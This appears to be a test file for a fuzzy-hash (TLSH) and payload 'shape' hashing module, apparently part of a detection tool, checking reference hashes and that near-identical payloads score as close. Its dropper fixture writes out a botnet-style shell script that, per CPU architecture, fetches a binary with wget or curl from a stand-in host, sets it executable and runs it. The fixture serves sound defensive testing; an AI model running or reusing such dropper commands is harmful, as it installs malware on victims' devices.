import assert from 'node:assert/strict'
import { test } from 'node:test'
import { numbers } from '#codec/testing.ts'
import { shapeHash } from './shape.ts'
import { tlsh, tlshDistance } from './tlsh.ts'

/** Bytes that anybody can make again: the reference program was asked about these. */
const drawn = (seed: number, length: number, below = 256) => {
  const draw = numbers(seed)
  return Buffer.from(Array.from({ length }, () => draw(below)))
}

test('is what the reference program says', () => {
  // libtlsh 3.4.4 of Debian 12, `tlsh_unittest -f`; its hashes have no T1 before them.
  const table: [seed: number, length: number, below: number, hash: string][] = [
    [1, 256, 256, 'T1FFD02B265283357B510B9C19951518105F3506816649E6C01A374E5912F4690196CE40'],
    [2, 600, 96, 'T168F0473101DA7FF6D15D7C896B6161A6143A534F0DF8456AF44E3D77591031C16ECC1A'],
    [3, 3000, 256, 'T1FD5139E446BC05527B85430D91069BEC391704819603AA2BFC65AE3EB0CE7C8AC83534'],
    [4, 3300, 64, 'T1C1615C01A19F24C2472E6035D57DACEF066C322A1B84B2A97F0CDB979DF128459A2B0D'],
    [5, 70000, 250, 'T1D6630250C4D4B608E96D62978E9C821F1B75A0E7DF0436EE32EFD232E91B2E24B4519D'],
  ]
  for (const [seed, length, below, hash] of table) assert.equal(tlsh(drawn(seed, length, below)), hash)
  assert.equal(tlshDistance(table[1]![3], table[3]![3]), 320)
})

test('says nothing about what is too short or too uniform', () => {
  assert.equal(tlsh(Buffer.from('short')), undefined)
  assert.equal(tlsh(Buffer.alloc(5000, 65)), undefined)
  assert.equal(tlsh(drawn(1, 49)), undefined)
  assert.throws(() => tlshDistance('T1xyz', 'T1xyz'))
})

/** A script of some kilobytes that fetches from `host`. */
const dropper = (host: string) =>
  Buffer.from(
    ['arm', 'arm5', 'arm6', 'arm7', 'mips', 'mpsl', 'sh4', 'x86', 'ppc', 'spc', 'm68k', 'i586']
      .map(
        (cpu, i) =>
          `cd /tmp || cd /var/run || cd /mnt || cd /root || cd /\nbin=${cpu}\nrm -f $bin\n${i === 0 ? `host=${host}\n` : ''}` +
          `wget http://$host/b/${cpu} -O $bin || curl http://$host/b/${cpu} -o $bin\nchmod 777 $bin && ./$bin scan.${cpu}\n`,
      )
      .join(''),
  )

test('payloads that are nearly the same are near, others far', () => {
  const [one, other] = [tlsh(dropper('192.0.2.9'))!, tlsh(dropper('198.51.100.77'))!]
  assert.equal(tlshDistance(one, one), 0)
  const near = tlshDistance(one, other)
  const far = tlshDistance(one, tlsh(drawn(3, 2000))!)
  assert.ok(near < 30 && far > 150, `${near} ${far}`)
  assert.equal(tlshDistance(one, other), tlshDistance(other, one))
  assert.equal(shapeHash(dropper('192.0.2.9')), shapeHash(dropper('198.51.100.77')))
})

test('a shape is the same whoever a payload is sent to', () => {
  const same: [string, string][] = [
    [
      'GET /x?id=1234 HTTP/1.1\r\nHost: 192.0.2.1:8080\r\n\r\n',
      'GET /x?id=9 HTTP/1.1\r\nHost: 198.51.100.200:80\r\n\r\n',
    ],
    ['Host: scan.example\r\n', 'Host: a.b.other.org\r\n'],
    ['token=0123456789abcdef&x=1\n', 'token=fedcba9876543210&x=22\n'],
    ['auth: QWxhZGRpbjpvcGVuIHNlc2FtZSBhbmQgbW9yZTEx\n', 'auth: dGhpcyBpcyBzb21ldGhpbmcgZWxzZSBhbHRvZ2V0aGVy9ab=\n'],
    [
      '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03abcdef-tail of text',
      '\x16\x03\x01\x02\x00\x01\x00\x01\xf8\x03\x03abcdef-tail of text',
    ],
  ]
  for (const [one, other] of same)
    assert.equal(shapeHash(Buffer.from(one, 'latin1')), shapeHash(Buffer.from(other, 'latin1')), one)
  const different = [
    'GET /x?id=1 HTTP/1.1\r\n',
    'GET /y?id=1 HTTP/1.1\r\n',
    'POST /x?id=1 HTTP/1.1\r\n',
    '\x01\x02\x03\x04\x05',
    '\x16\x03\x01\x02\x00',
    '',
  ]
  assert.equal(new Set(different.map(text => shapeHash(Buffer.from(text, 'latin1')))).size, different.length)
  assert.match(shapeHash(Buffer.alloc(300_000, 97)), /^[0-9a-f]{16}$/)
  for (const piece of ['1.', 'a-', 'aA1', '.', 'a.com', '\0a']) shapeHash(Buffer.from(piece.repeat(50_000), 'latin1'))
})
